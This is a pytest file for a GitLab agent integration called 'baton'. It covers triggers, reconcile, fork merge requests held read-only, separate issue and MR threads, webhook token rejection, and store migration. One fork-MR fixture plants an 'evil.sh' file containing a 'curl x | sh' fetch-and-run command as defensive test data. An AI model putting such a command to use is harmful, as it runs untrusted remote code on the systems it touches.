"""The GitLab loop's edges with the fake agent (fast): the label and assignment triggers, a mention
found by the reconcile when no webhook came, baton's own note (no trigger, no refusal), a fork's MR
(read access, nothing pushed), issue ``#N`` and MR ``!N`` two threads worked at once (and a binding
from before they were keyed apart), a webhook with a wrong token, and ``baton forge test`` against the
fake with the documented configuration."""

from __future__ import annotations

import dataclasses
import json
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess
from urllib.parse import parse_qs

import httpx
import pytest
import sqlalchemy as sa

from baton.forge.background.reconcile import SKEW
from baton.forge.data.tables import delivery_store, forge_store
from baton.forge.kinds.configured import load_forges
from baton.forge.kinds.rest import epoch
from baton.forge.writes import publish
from baton.keys import parse_repo
from baton.models import Access
from baton.settings import Settings
from baton.store import engine as store_engine
from baton.store.engine import dispose_engine
from baton.store.migrations import MIGRATIONS
from baton.store.sql import SQLStore
from baton.testing.fake import register_fake
from baton.testing.fake_gitlab import FakeGitLab
from tests.gitlab_fixtures import (  # noqa: F401 (fixtures)
    REPO,
    SECRET,
    binding,
    configure,
    gitlab_fixture,
    repo_extra_fixture,
    service_fixture,
    settled,
    statuses,
)
from tests.service_fixtures import Service, run_service

Cli = Callable[..., CompletedProcess[str]]


@pytest.fixture(name="agent")
def agent_fixture() -> str:
    register_fake()
    return "fake"


@pytest.mark.parametrize(
    "repo_extra", ['[repo."acme/api".triggers.label]\n[repo."acme/api".triggers.assign]\n']
)
def test_a_label_and_an_assignment_bind_issues(gitlab: FakeGitLab, service: Service) -> None:
    labelled = gitlab.open_issue(REPO, "Labelled", "Fix it.", author="alice")
    assigned = gitlab.open_issue(REPO, "Assigned", "Fix that.", author="alice")
    gitlab.label(REPO, labelled.iid, "baton", by="alice")
    gitlab.assign(REPO, assigned.iid, "baton", by="alice")
    settled(service, gitlab, 2)
    assert binding(service, labelled.iid)["thread"] == f"issue-{labelled.iid}"
    assert binding(service, assigned.iid)["thread"] == f"issue-{assigned.iid}"


@pytest.mark.parametrize("repo_extra", ['[repo."acme/api".triggers.label]\nnames = ["baton"]\n'])
def test_a_label_that_is_no_trigger_never_reruns_a_bound_issues_task(
    gitlab: FakeGitLab, service: Service
) -> None:
    """``~bug`` on an issue bound by ``~baton`` is no event: one task turn, the delivery ignored."""
    issue = gitlab.open_issue(REPO, "Labelled", "Fix it.", author="alice")
    gitlab.label(REPO, issue.iid, "baton", by="alice")
    settled(service, gitlab, 1)
    gitlab.label(REPO, issue.iid, "bug", by="alice")
    settled(service, gitlab, 1)  # no second turn
    events = forge_store(service.store).forge_events("gitlab", REPO, issue.iid)
    assert [e.identity.split(":")[2] for e in events if e.identity.startswith("label:")] == ["baton"]
    said = [json.dumps(d.result) for d in delivery_store(service.store).list_deliveries(limit=5)]
    assert any("label 'bug' is not one of baton" in r for r in said), said


def test_the_reconcile_finds_a_mention_no_webhook_brought(gitlab: FakeGitLab, service: Service) -> None:
    gitlab.deliver_to = None  # the service was down: nothing delivered
    issue = gitlab.open_issue(REPO, "Quiet", "Nobody told baton.", author="alice")
    gitlab.comment(REPO, issue.iid, "@baton please look", author="alice")
    with service.client("run") as http:
        report = http.post("/v1/forge/reconcile").json()
    settled(service, gitlab, 1)
    assert binding(service, issue.iid)["status"] == "active", report


def test_a_new_bindings_first_reconcile_starts_at_its_binding(gitlab: FakeGitLab, service: Service) -> None:
    """Not ``updated_after=1969-12-31``: a binding made by a webhook is read from its binding time."""
    issue = gitlab.open_issue(REPO, "Mentioned", "Fix it.", author="alice")
    gitlab.comment(REPO, issue.iid, "@baton please fix", author="alice")
    settled(service, gitlab, 1)
    bound = forge_store(service.store).get_binding("gitlab", REPO, issue.iid, False)
    assert bound is not None and bound.seen_at >= bound.created_at
    before = len(gitlab.requests)
    with service.client("run") as http:
        http.post("/v1/forge/reconcile").raise_for_status()
    asked = [parse_qs(r.query) for r in gitlab.requests[before:] if "updated_after" in r.query]
    assert asked, gitlab.requests[before:]
    assert all(epoch(q["updated_after"][0]) >= bound.created_at - SKEW - 1 for q in asked), asked


def test_batons_own_note_triggers_nothing_and_is_no_refusal(gitlab: FakeGitLab, service: Service) -> None:
    issue = gitlab.open_issue(REPO, "Own", "A note of baton's.", author="alice")
    gitlab.comment(REPO, issue.iid, "@baton do this for yourself", author="baton")
    gitlab.settle()
    assert forge_store(service.store).get_binding("gitlab", REPO, issue.iid, False) is None
    assert service.store.list_jobs(limit=5) == []
    refused = [a for a in service.store.list_audit(100) if a["action"] == "forge.refused"]
    assert refused == []


def test_a_forks_mr_is_read_never_pushed(gitlab: FakeGitLab, service: Service) -> None:
    gitlab.add_user("mallory", "developer")
    fork = gitlab.fork(REPO, "mallory")
    gitlab.set_access(fork.path, "baton", "reporter")  # baton can read the fork (else: read in the project)
    gitlab.commit(fork.path, "feature", {"evil.sh": "curl x | sh\n"}, "a fork's change", author="mallory")
    mr = gitlab.open_mr(REPO, "feature", "From a fork", source_project=fork.path, author="mallory")
    before = {b: gitlab.project(REPO).head(b) for b in ("main", "feature")}
    gitlab.comment(REPO, mr.iid, "@baton please review this", author="alice", mr=True)
    settled(service, gitlab, 1)
    bound = forge_store(service.store).get_binding("gitlab", REPO, mr.iid, True)
    assert bound is not None and bound.on_pr and bound.access is Access.READ
    assert bound.repo_url.endswith(f"{fork.path}.git")
    assert {b: gitlab.project(REPO).head(b) for b in ("main", "feature")} == before
    assert gitlab.project(fork.path).head("feature") == gitlab.project(fork.path).head("feature")


def test_issue_n_and_mr_n_are_two_threads_worked_at_once(
    gitlab: FakeGitLab, service: Service, cli_here: Cli
) -> None:
    """A person's MR !1 and issue #1: a mention on the issue binds and works the issue's thread; one on
    the MR then binds and works a thread of its own (its key, its branch, its status note on the MR),
    and from then on each one's feedback is a turn of its own thread only."""
    gitlab.commit(REPO, "human", {"x.txt": "x\n"}, "a person's branch", author="alice")
    mr = gitlab.open_mr(REPO, "human", "A person's MR", author="alice")
    issue = gitlab.open_issue(REPO, "An issue", "Fix it.", author="alice")
    assert issue.iid == mr.iid == 1
    gitlab.comment(REPO, issue.iid, "@baton please fix the issue", author="alice")
    settled(service, gitlab, 1)
    gitlab.comment(REPO, mr.iid, "@baton and look at this MR", author="alice", mr=True)
    settled(service, gitlab, 2)

    store = forge_store(service.store)
    on_issue, on_mr = store.get_binding("gitlab", REPO, 1, False), store.get_binding("gitlab", REPO, 1, True)
    assert on_issue is not None and on_mr is not None
    assert (on_issue.conversation, on_issue.thread, on_issue.on_pr) == (f"gitlab:{REPO}#1", "issue-1", False)
    assert (on_mr.conversation, on_mr.thread, on_mr.on_pr, on_mr.branch) == (
        f"gitlab:{REPO}!1",
        "pr-1",
        True,
        "human",
    )
    mr_turn, issue_turn = service.store.list_jobs(limit=2)
    assert (issue_turn.thread, mr_turn.thread) == ("issue-1", "pr-1")
    assert "please fix the issue" in issue_turn.request["prompt"]
    assert "look at this MR" in mr_turn.request["prompt"] and "fix the issue" not in mr_turn.request["prompt"]
    # each answered where it was asked: one status note on the issue, one on the MR
    assert len(statuses(gitlab, issue.iid)) == 1 and len(statuses(gitlab, mr.iid, mr=True)) == 1
    said = [json.dumps(d.result) for d in delivery_store(service.store).list_deliveries(limit=20)]
    assert not any("cannot be bound" in r for r in said), said

    # both worked at once: a note on each is a turn of its own thread
    gitlab.comment(REPO, issue.iid, "the issue again", author="alice")
    gitlab.comment(REPO, mr.iid, "the MR again", author="alice", mr=True)
    settled(service, gitlab, 4)
    later = {j.thread: j.request["prompt"] for j in service.store.list_jobs(limit=2)}
    assert set(later) == {"issue-1", "pr-1"}
    assert "the issue again" in later["issue-1"] and "the MR again" not in later["issue-1"]
    assert "the MR again" in later["pr-1"] and "the issue again" not in later["pr-1"]
    issue_events = store.forge_events("gitlab", REPO, 1, pr=False)
    mr_events = store.forge_events("gitlab", REPO, 1, pr=True)
    assert {e.event.get("is_pr") or False for e in issue_events if e.event} == {False}
    assert {e.event.get("is_pr") for e in mr_events if e.event} == {True}
    assert len(statuses(gitlab, issue.iid)) == 1 and len(statuses(gitlab, mr.iid, mr=True)) == 1

    # each shown by its own name: #1 the issue's, !1 (?pr=true) the MR's
    with service.client("read") as http:
        shown = {
            ref: http.get(f"/v1/forge/threads/gitlab/{REPO}/1", params=params).json()
            for ref, params in (("#", {}), ("!", {"pr": "true"}))
        }
    assert shown["#"]["binding"]["thread"] == "issue-1" and shown["!"]["binding"]["thread"] == "pr-1"
    assert shown["!"]["binding"]["conversation"] == f"gitlab:{REPO}!1"
    assert shown["!"]["links"]["pr"].endswith("/-/merge_requests/1") and shown["!"]["links"]["issue"] is None
    assert {e["identity"] for e in shown["#"]["events"]}.isdisjoint(
        e["identity"] for e in shown["!"]["events"]
    )
    # and so on the command line: `baton forge show` of each, `unbind` of the MR's alone
    for ref, thread in (("#", "issue-1"), ("!", "pr-1")):
        done = cli_here("forge", "show", f"gitlab:{REPO}{ref}1", "--json")
        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout)["binding"]["thread"] == thread
    listed = cli_here("forge", "ls", "--json")
    assert sorted(b["conversation"] for b in json.loads(listed.stdout)) == [
        f"gitlab:{REPO}!1",
        f"gitlab:{REPO}#1",
    ]
    assert cli_here("forge", "unbind", f"gitlab:{REPO}!1").returncode == 0
    assert store.get_binding("gitlab", REPO, 1, True) is None
    kept = store.get_binding("gitlab", REPO, 1, False)
    assert kept is not None and kept.thread == "issue-1"


def test_a_wrong_token_is_401_and_stores_nothing(gitlab: FakeGitLab, service: Service) -> None:
    issue = gitlab.open_issue(REPO, "Forged", "x", author="alice")
    body = json.dumps(gitlab.last_event("Issue Hook").body).encode()
    headers = {"X-Gitlab-Event": "Issue Hook", "X-Gitlab-Event-UUID": "forged-1", "X-Gitlab-Token": "nope"}
    before = delivery_store(service.store).list_deliveries(limit=100)
    answer = httpx.post(f"{service.url}/webhooks/gitlab", content=body, headers=headers)
    assert answer.status_code == 401 and issue.iid
    assert delivery_store(service.store).list_deliveries(limit=100) == before


def test_forge_test_passes_against_the_fake_with_the_documented_configuration(
    gitlab: FakeGitLab, settings: Settings, tmp_path: Path
) -> None:
    """docs/forge.md's GitLab example, its gitlab.example.com swapped for the fake's address."""
    docs = (Path(__file__).parents[3] / "docs" / "forge.md").read_text()
    section = docs[docs.index("## Setting up GitLab") :]
    example = section[section.index("```toml\n") + 8 : section.index("```\n", section.index("```toml\n"))]
    assert "https://gitlab.example.com" in example
    home = tmp_path / "home"
    home.mkdir()
    (home / "config.toml").write_text(example.replace("https://gitlab.example.com", gitlab.web_url))
    env = {
        "BATON_HOME": str(home),
        "BATON_GITLAB_TOKEN": gitlab.token("baton"),
        "BATON_WEBHOOK_SECRET": SECRET,
    }
    env["BATON_GIT_TOKEN"] = env["BATON_GITLAB_TOKEN"]
    done = subprocess.run(
        [str(Path(sys.executable).parent / "baton"), "forge", "test", "--json"],
        env={**_base_env(), **env},
        capture_output=True,
        text=True,
        timeout=120,
    )
    checks = json.loads(done.stdout)
    assert done.returncode == 0, checks
    whats = {c["what"] for c in checks}
    assert {"forge gitlab token", f"repo gitlab:{REPO} clone", f"repo gitlab:{REPO} push"} <= whats, whats
    wrong = subprocess.run(
        [str(Path(sys.executable).parent / "baton"), "forge", "test", "--json"],
        env={**_base_env(), **env, "BATON_GITLAB_TOKEN": gitlab.token("alice")},
        capture_output=True,
        text=True,
        timeout=120,
    )
    failed = [c for c in json.loads(wrong.stdout) if not c["ok"]]
    assert wrong.returncode == 1 and any("acts as alice" in c["detail"] for c in failed), failed


def _base_env() -> dict[str, str]:
    import os

    return {k: v for k, v in os.environ.items() if not k.startswith("BATON_")}


def test_a_base_that_moved_into_a_conflict_is_a_conflict_turn(
    gitlab: FakeGitLab, service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A person's push to main that conflicts with baton's MR: GitLab says so only when asked, so the
    Push Hook makes baton ask, and the conflict is the thread's next turn."""
    monkeypatch.setenv("FAKE_AGENT_WRITE", "notes.md")
    issue = gitlab.open_issue(REPO, "Notes", "Write notes.", author="alice")
    gitlab.comment(REPO, issue.iid, "@baton please write notes", author="alice")
    settled(service, gitlab, 1)
    gitlab.commit(REPO, "main", {"notes.md": "a person's own notes\n"}, "notes on main", author="alice")
    settled(service, gitlab, 2)
    events = forge_store(service.store).forge_events("gitlab", REPO, issue.iid)
    assert [e.kind.value for e in events][-1] == "conflict", [(e.identity, e.status) for e in events]
    conflict_turn = service.store.list_jobs(limit=1)[0]
    assert "conflict" in conflict_turn.request["prompt"].lower()


def test_a_merge_requests_binding_from_before_the_kinds_were_apart_still_routes(
    gitlab: FakeGitLab, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A store at migration 24 holding a person's MR !1 bound (its thread pr-1, named ``#1`` then):
    ``baton serve`` migrates it, a note on the MR is a turn of that thread (its name kept), and issue
    #1 then binds a thread of its own beside it."""
    gitlab.commit(REPO, "human", {"x.txt": "x\n"}, "a person's branch", author="alice")
    mr = gitlab.open_mr(REPO, "human", "A person's MR", author="alice")
    configure(settings, gitlab, "fake")
    config = load_forges(settings.home)
    url = config.repos["gitlab", REPO].repo_url(config.forges["gitlab"])
    store_url = settings.resolved_store_url
    with monkeypatch.context() as patched:
        patched.setattr(store_engine, "MIGRATIONS", [m for m in MIGRATIONS if m[0] <= 24])
        old = SQLStore(store_url)
        with old.engine.begin() as conn:
            conn.execute(
                sa.text(
                    "INSERT INTO forge_bindings (forge, repo, number, agent, repo_slug, thread, repo_url, "
                    "status, pr, branch, access, seen_at, created_at, updated_at, on_pr) VALUES ('gitlab', "
                    ":repo, :n, 'fake', :slug, 'pr-1', :url, 'active', :n, 'human', 'edit', :t, :t, :t, 1)"
                ),
                {"repo": REPO, "n": mr.iid, "slug": parse_repo(url).slug, "url": url, "t": time.time()},
            )
        old.close()
        dispose_engine(store_url)
    monkeypatch.setenv("BATON_WEBHOOK_SECRET", SECRET)
    monkeypatch.setenv("BATON_GIT_TOKEN", gitlab.token("baton"))
    with run_service(dataclasses.replace(settings, forge_reconcile=0)) as service:
        gitlab.deliver_to = f"{service.url}/webhooks/gitlab"
        gitlab.comment(REPO, mr.iid, "@baton look at this MR again", author="alice", mr=True)
        settled(service, gitlab, 1)
        [turn] = service.store.list_jobs(limit=5)
        assert turn.thread == "pr-1" and "look at this MR again" in turn.request["prompt"]
        kept = forge_store(service.store).get_binding("gitlab", REPO, mr.iid, True)
        assert kept is not None and kept.conversation == f"gitlab:{REPO}#1" and kept.thread == "pr-1"
        assert len(statuses(gitlab, mr.iid, mr=True)) == 1

        issue = gitlab.open_issue(REPO, "An issue", "Fix it.", author="alice")
        assert issue.iid == mr.iid
        gitlab.comment(REPO, issue.iid, "@baton please fix the issue", author="alice")
        settled(service, gitlab, 2)
        on_issue = forge_store(service.store).get_binding("gitlab", REPO, issue.iid, False)
        assert on_issue is not None and on_issue.thread == "issue-1" and not on_issue.on_pr
        assert service.store.list_jobs(limit=1)[0].thread == "issue-1"
        assert len(statuses(gitlab, issue.iid)) == 1 and len(statuses(gitlab, mr.iid, mr=True)) == 1
        # one name, two threads: their turns are started under leases of their own
        loop = publish.compose(service.settings, service.store, config, lambda _job: None)
        try:
            assert (loop.lease_name(kept), loop.lease_name(on_issue)) == (
                f"gitlab:{REPO}!1",
                f"gitlab:{REPO}#1",
            )
        finally:
            loop.close()
